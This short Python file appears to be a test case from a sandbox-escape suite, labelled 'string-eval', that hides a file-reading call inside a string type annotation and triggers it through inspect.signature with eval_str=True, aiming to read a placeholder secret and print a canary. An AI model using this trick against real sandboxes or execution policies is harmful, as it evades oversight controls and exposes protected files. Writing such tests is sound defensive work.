# class: string-eval
# technique: inspect.signature(eval_str=True) evaluates an annotation outside the policy
# success: output_has @@CANARY@@
import inspect
def f(x: "__import__('builtins').open('@@SECRET@@').read()"): pass
print(inspect.signature(f, eval_str=True))
